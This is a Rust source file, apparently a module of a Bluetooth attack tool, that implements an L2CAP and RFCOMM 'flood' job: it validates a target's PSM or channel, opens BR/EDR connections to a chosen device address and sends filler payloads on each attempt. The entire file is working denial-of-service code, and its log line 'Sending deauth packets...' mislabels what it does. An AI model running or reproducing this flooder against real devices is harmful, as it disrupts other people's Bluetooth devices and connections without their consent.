//! Raw socket flood over L2CAP or RFCOMM

use crate::bluetooth::parse_address;
use anyhow::{ensure, Result};
use async_trait::async_trait;
use bleeding_core::{AttemptContext, AttemptReport, Job, JobError, Protocol, Target};
use bluer::{l2cap, rfcomm, Address, AddressType};
use bytes::Bytes;
use tokio::io::AsyncWriteExt;

/// Default L2CAP PSM, the first dynamically assigned one
pub const DEFAULT_L2CAP_PSM: u16 = 0x1001;

/// Default RFCOMM channel
pub const DEFAULT_RFCOMM_CHANNEL: u8 = 1;

pub const MAX_RFCOMM_CHANNEL: u8 = 30;

const FILL: u8 = 0x01;

/// A PSM must be odd and have an even most significant octet
pub fn is_valid_psm(psm: u16) -> bool {
    psm & 0x0001 == 0x0001 && psm & 0x0100 == 0
}

/// Opens a BR/EDR connection and writes one filler payload per attempt
#[derive(Debug, Clone)]
pub struct ClassicFlood {
    address: Address,
    protocol: Protocol,
    port: u16,
    payload: Bytes,
}

impl ClassicFlood {
    pub fn new(target: &Target) -> Result<Self> {
        let address = parse_address(target.address())?;
        let port = target.port();

        match target.protocol() {
            Protocol::ConnectionOriented => ensure!(
                is_valid_psm(port),
                "Invalid L2CAP PSM {port:#06x}: it must be odd with an even upper byte"
            ),
            Protocol::Stream => ensure!(
                (1..=u16::from(MAX_RFCOMM_CHANNEL)).contains(&port),
                "Invalid RFCOMM channel {port}: it must be between 1 and {MAX_RFCOMM_CHANNEL}"
            ),
        }

        Ok(Self {
            address,
            protocol: target.protocol(),
            port,
            payload: Bytes::from(target.payload(FILL)),
        })
    }

    async fn send_l2cap(&self, ctx: &AttemptContext<'_>) -> Result<usize, JobError> {
        let addr = l2cap::SocketAddr::new(self.address, AddressType::BrEdr, self.port);
        let socket = l2cap::SeqPacket::connect(addr).await?;

        ctx.info("Sending deauth packets...");
        let sent = socket.send(&self.payload).await?;
        Ok(sent)
    }

    async fn send_rfcomm(&self, ctx: &AttemptContext<'_>) -> Result<usize, JobError> {
        // Range checked in new()
        let channel = self.port as u8;
        let addr = rfcomm::SocketAddr::new(self.address, channel);
        let mut stream = rfcomm::Stream::connect(addr).await?;

        ctx.info("Sending deauth packets...");
        stream.write_all(&self.payload).await?;
        let _ = stream.shutdown().await;
        Ok(self.payload.len())
    }
}

#[async_trait]
impl Job for ClassicFlood {
    fn name(&self) -> &'static str {
        match self.protocol {
            Protocol::ConnectionOriented => "l2cap-flood",
            Protocol::Stream => "rfcomm-flood",
        }
    }

    async fn attempt(
        &self,
        _target: &Target,
        ctx: &AttemptContext<'_>,
    ) -> Result<AttemptReport, JobError> {
        let logger = ctx.logger();
        ctx.info(format!(
            "Connecting to {} on {} {}...",
            logger.good(self.address),
            self.protocol,
            logger.value(self.port)
        ));

        let sent = match self.protocol {
            Protocol::ConnectionOriented => self.send_l2cap(ctx).await?,
            Protocol::Stream => self.send_rfcomm(ctx).await?,
        };
        Ok(AttemptReport::sent(sent))
    }
}
